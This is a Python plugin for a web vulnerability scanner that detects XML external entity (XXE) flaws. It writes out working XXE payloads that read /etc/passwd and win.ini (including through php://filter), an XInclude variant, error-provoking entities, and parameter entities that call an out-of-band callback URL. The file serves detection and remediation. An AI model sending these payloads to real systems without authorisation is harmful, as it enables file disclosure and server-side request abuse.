"""XML external entities: a document from outside makes the parser read files and call addresses."""

import re
from collections.abc import AsyncIterator
from functools import partial
from itertools import islice

from s2n.s2nscanner.sdk import (
    PASSWD,
    WIN_INI,
    Callback,
    CheckContext,
    Claim,
    Fresh,
    InputPoint,
    Location,
    Malformed,
    Message,
    PluginInfo,
    Probe,
    Proof,
    Severity,
    Spelling,
    XmlWay,
    complaint,
    prove_callback,
    prove_signature,
    xml_ways_in,
)

_FILES = (
    (PASSWD, "file:///etc/passwd"),
    (WIN_INI, "file:///c:/windows/win.ini"),
    (PASSWD, "php://filter/convert.base64-encode/resource=/etc/passwd"),
)
_INCLUDE = '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="{}"/></x>'
_PLACES = frozenset({Location.QUERY, Location.FORM, Location.JSON, Location.XML, Location.MULTIPART})
_MISSING = re.compile(
    r"(?i)failed to load|no such file|not ?found|cannot find|could ?n[o']t find|can't find|i/o warning"
    r"|i/o error|(?:unable to|failed to|could not|cannot) (?:open|read|load|resolve)|does not exist"
    r"|error opening|enoent|java\.io\."
)
_AROUND = 300
"""Characters on either side of a message in which the file's name is looked for."""
MAX_TEXT = 1 << 18
MAX_MESSAGES = 50


class Plugin:
    """Declares an external entity: the file's content, an error that names it, or a call is the witness."""

    info = PluginInfo(
        id="xxe",
        title="XML external entities",
        severity=Severity.HIGH,
        cwe="CWE-611",
        owasp="A05:2021",
        wstg="WSTG-INPV-07",
        cvss_vector="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:L",
        cvss_score=8.2,
        what="The XML parser follows what a document from outside declares: external entities or inclusions.",
        why="An attacker reads the server's files, has it call internal addresses, or stops it with entities "
        "that grow.",
        fix="Switch document type declarations off in the parser (disallow-doctype-decl, defusedxml, "
        "XmlResolver = null, no LIBXML_NOENT), and XInclude with them.",
        references=(
            "https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing",
            "https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html",
            "https://cwe.mitre.org/data/definitions/611.html",
        ),
        max_requests=40,
    )

    async def check(self, point: InputPoint, ctx: CheckContext) -> AsyncIterator[Claim]:
        """One finding at most: the first way in that proves it, or an inclusion."""
        probe: Probe | None = None
        for way in xml_ways_in(point, any_upload=ctx.scan.accept_risk):
            probe = probe or await ctx.probe(point)
            if proof := await _through(way, probe.writing(way.write), ctx):
                yield ctx.finding(
                    proof, point, description=f"{self.info.what} Here: {way.name}. {self.info.why}"
                )
                return
        if point.location in _PLACES and "@" not in point.name and not point.value.isdigit():
            probe = probe or await ctx.probe(point)
            raw = point.location is Location.XML
            if proof := await prove_signature(probe, PASSWD, partial(_inclusion, ctx.fresh), raw=raw):
                yield ctx.finding(proof, point)


async def _through(way: XmlWay, probe: Probe, ctx: CheckContext) -> Proof | None:
    for signature, path in _FILES:
        if proof := await prove_signature(probe, signature, partial(_reading, path, ctx.fresh)):
            return proof
    if proof := await complaint(probe, _missing(), _complaints):
        return proof
    if ctx.callbacks is None:
        return None
    return await prove_callback(probe, ctx.callbacks, [_general, _parameter], body="")


def _entity(definition: str) -> str:
    return f"<!ENTITY s2n {definition}>"


def _reading(path: str, fresh: Fresh) -> Spelling:
    """A file; a made-up one; and one that is only text, which every parser may expand."""
    made_up = path.replace("passwd", fresh.letters(6)).replace("win.ini", fresh.letters(6))
    return Spelling(_entity(f'SYSTEM "{path}"'), (_entity(f'SYSTEM "{made_up}"'), _entity('"/etc/passwd"')))


def _inclusion(fresh: Fresh) -> Spelling:
    return Spelling(
        _INCLUDE.format("file:///etc/passwd"), (_INCLUDE.format(f"file:///etc/{fresh.letters(6)}"),)
    )


def _missing() -> Malformed:
    return Malformed(
        broken=lambda word: _entity(f'SYSTEM "file:///{word}/{word}"'),
        harmless=[lambda fresh: _entity(f'"{fresh.letters()}"')],
        balanced=lambda fresh: _entity(f'"{fresh.letters()}/{fresh.letters()}"'),
        unbalanced=lambda fresh: _entity(f'SYSTEM "file:///{fresh.letters()}/{fresh.letters()}"'),
    )


def _complaints(text: str) -> list[Message]:
    """Messages that a file is missing, each with its line."""
    messages = []
    for found in islice(_MISSING.finditer(text[:MAX_TEXT]), MAX_MESSAGES):
        before = re.split(r"[\n<]", text[max(0, found.start() - _AROUND) : found.start()])[-1]
        after = re.split(r"[\n<]", text[found.start() : found.end() + _AROUND])[0]
        messages.append(Message("the XML parser", 1, (before + after).strip()))
    return messages


def _general(callback: Callback) -> str:
    return _entity(f'SYSTEM "{callback.url}"')


def _parameter(callback: Callback) -> str:
    """For parsers that expand no entity in the text; the reference there stays defined."""
    return f'<!ENTITY % p SYSTEM "{callback.url}"> %p; {_entity(chr(34) * 2)}'
